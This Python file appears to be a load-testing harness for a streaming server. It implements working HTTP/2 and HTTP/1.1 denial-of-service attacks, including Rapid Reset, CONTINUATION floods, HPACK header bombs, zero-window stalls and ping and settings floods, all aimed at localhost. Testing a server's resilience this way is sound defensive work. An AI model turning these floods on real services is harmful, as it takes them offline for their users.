"""Clients that mean harm, in one process that costs little: each connection plays a script over and over, and a connection
that the server ends is opened again. RFC 9113 by hand, as no library sends what is wrong.

As a program: floods.py KIND PORT SECONDS CONNECTIONS PATH... plays a kind against 127.0.0.1 and prints one JSON line."""

import json
import random
import re
import select
import socket
import sys
import time

import hostile_requests

OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    """RFC 9113, clause 4.1."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def fields(path, method=b"\x82"):
    """A header block of literals: GET, http, the path, an authority. RFC 7541, appendix A."""
    path = path.encode()
    return method + b"\x86\x04" + length(len(path)) + path + b"\x01\x01a"


def length(count):
    """An integer with a prefix of seven bits. RFC 7541, clause 5.1."""
    if count < 127:
        return bytes((count,))
    count -= 127
    rest = b""
    while count >= 128:
        rest, count = rest + bytes((count & 127 | 128,)), count >> 7
    return b"\x7f" + rest + bytes((count,))


def streams():
    return range(1, 1 << 31, 2)


class Script:
    """What one connection sends: bytes, or seconds to wait. `reads` is false for who takes no answers."""

    reads = True

    def __init__(self, paths, generator):
        self.paths, self.generator = paths, generator

    def path(self):
        return self.generator.choice(self.paths)

    def play(self):
        raise NotImplementedError


class RapidResets(Script):
    """CVE-2023-44487."""

    def play(self):
        yield OPENING + frame(4, 0, 0)
        for stream in streams():
            yield frame(1, 5, stream, fields(self.path())) + frame(3, 0, stream, bytes((0, 0, 0, 8)))


class BrokenStreams(Script):
    """Streams that the server has to reset: a window update of nothing. The other way to the same."""

    def play(self):
        yield OPENING + frame(4, 0, 0)
        for stream in streams():
            yield frame(1, 5, stream, fields(self.path())) + frame(8, 0, stream, bytes(4))


class Continuations(Script):
    """CVE-2024-27316: a header block that does not end."""

    def play(self):
        yield OPENING + frame(4, 0, 0) + frame(1, 0, 1, fields(self.path()))
        while True:
            yield frame(9, 0, 1, b"\x40\x01a\x01b" * 20)


class HalfFrames(Script):
    """A frame that does not end, a byte at a time."""

    def play(self):
        yield OPENING + frame(4, 0, 0)
        yield (16384).to_bytes(3, "big") + b"\x01\x04" + (1).to_bytes(4, "big")
        while True:
            yield 0.5
            yield b"\x82"


class HalfPrefaces(Script):
    """Neither HTTP/1.1 nor HTTP/2 yet."""

    def play(self):
        for byte in OPENING[:-1]:
            yield bytes((byte,))
            yield 1.0
        while True:
            yield 5.0


class Settings(Script):
    """Each wants an answer; the size of the compression table up and down."""

    def play(self):
        yield OPENING + frame(4, 0, 0)
        while True:
            yield (frame(4, 0, 0, b"\0\1\0\0\0\0") + frame(4, 0, 0, b"\0\1\0\0\x10\0")) * 20


class Pings(Script):
    reads = False

    def play(self):
        yield OPENING + frame(4, 0, 0)
        while True:
            yield frame(6, 0, 0, b"sluice!!") * 50


class EmptyData(Script):
    """A body of nothing that does not end, and priorities of no use (CVE-2019-9518, CVE-2019-9513)."""

    def play(self):
        yield OPENING + frame(4, 0, 0) + frame(1, 4, 1, fields(self.path(), b"\x83"))
        while True:
            yield frame(0, 0, 1) * 50 + frame(2, 0, 3, b"\0\0\0\1\xff") * 10


class Bomb(Script):
    """A small header block that is a large one: one field of 4,000 bytes, and its index over and over."""

    def play(self):
        yield OPENING + frame(4, 0, 0)
        block = fields(self.path()) + b"\x40\x01x" + length(4000) + b"y" * 4000 + b"\xbe" * 10000
        for stream in streams():
            yield frame(1, 5, stream, block[:16384])


class ClosedWindows(Script):
    """A hundred segments asked for on each connection, and not a byte of them taken (CVE-2019-9511, CVE-2019-9517)."""

    def play(self):
        yield OPENING + frame(4, 0, 0, b"\0\4\0\0\0\0")
        for stream in range(1, 200, 2):
            yield frame(1, 5, stream, fields(self.path()))
        while True:
            yield 2.0
            yield frame(8, 0, 1, b"\0\0\0\1")


class Deaf(Script):
    """HTTP/1.1, pipelined, and nothing is read."""

    reads = False

    def play(self):
        while True:
            yield f"GET {self.path()} HTTP/1.1\r\nHost: a\r\n\r\n".encode() * 20


class Leavers(Script):
    """Wait for what is not there, and hang up."""

    def play(self):
        # Numbers count segments of two seconds from the epoch.
        path = self.path().replace("{msn}", str(int(time.time() / 2) + self.generator.randint(0, 1)))
        yield f"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n".encode() * self.generator.randint(1, 3)
        yield self.generator.random() * 0.3


class Fuzz(Script):
    """Wrong requests without end."""

    def play(self):
        while True:
            yield hostile_requests.request(self.generator, self.paths)
            yield 0.002


class Asked(Script):
    """Right requests that cost the most: manifests of random times and filters, each another one."""

    def play(self):
        while True:
            yield hostile_requests.costly(self.generator, self.paths)
            yield 0.001


KINDS = {kind.__name__: kind for kind in Script.__subclasses__()}


class Connection:
    def __init__(self, script, port):
        self.script, self.steps = script, script.play()
        self.socket = socket.socket()
        # What it cannot send yet would be memory of this machine, of one budget with the encoder that is judged.
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 10)
        self.socket.setblocking(False)
        if not script.reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        # The kernel chooses the port with the connection, so that they do not run out.
        self.socket.setsockopt(socket.IPPROTO_IP, 24, 1)
        self.socket.bind(("127.0.0.1", 0))
        self.socket.connect_ex(("127.0.0.1", port))
        self.waiting = b""
        self.due = 0.0

    def send(self, now):
        """As much as goes; gives the number of bytes."""
        sent = 0
        while now >= self.due and sent < 1 << 16:
            if not self.waiting:
                step = next(self.steps, None)
                if step is None:
                    raise EOFError
                if isinstance(step, float):
                    self.due = now + step
                    return sent
                self.waiting = step
            try:
                count = self.socket.send(self.waiting)
            except BlockingIOError:
                return sent
            sent, self.waiting = sent + count, self.waiting[count:]
        return sent


def run(kind, port, seconds, count, paths):
    """Plays until the time is over; gives what was counted."""
    generator = random.Random(20)
    poll = select.epoll()
    connections, found = {}, {"opened": 0, "endedByServer": 0, "bytes": 0, "answers": 0, "statuses": {}}
    end = time.monotonic() + seconds

    def leave(descriptor):
        poll.unregister(descriptor)
        connections.pop(descriptor).socket.close()

    while (now := time.monotonic()) < end:
        for _ in range(min(count - len(connections), 50)):
            one = Connection(KINDS[kind](paths, generator), port)
            connections[one.socket.fileno()] = one
            poll.register(one.socket.fileno(), select.EPOLLIN | select.EPOLLRDHUP if one.script.reads else select.EPOLLRDHUP)
            found["opened"] += 1
        for descriptor, events in poll.poll(0.002, 4096):
            one = connections[descriptor]
            try:
                data = one.socket.recv(1 << 18) if one.script.reads and events & select.EPOLLIN else b""
            except OSError:
                data = b""
            for status in re.findall(rb"HTTP/1\.1 (\d{3})", data):
                found["answers"] += 1
                found["statuses"][status.decode()] = found["statuses"].get(status.decode(), 0) + 1
            if not data and events & (select.EPOLLIN | select.EPOLLRDHUP | select.EPOLLERR | select.EPOLLHUP):
                found["endedByServer"] += 1
                leave(descriptor)
        for descriptor, one in list(connections.items()):
            try:
                found["bytes"] += one.send(now)
            except EOFError:
                leave(descriptor)
            except OSError as error:
                if error.errno not in (107, 115):  # not connected yet
                    found["endedByServer"] += 1
                    leave(descriptor)
    for descriptor in list(connections):
        leave(descriptor)
    return found


if __name__ == "__main__":
    print(json.dumps(run(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), sys.argv[5:])))
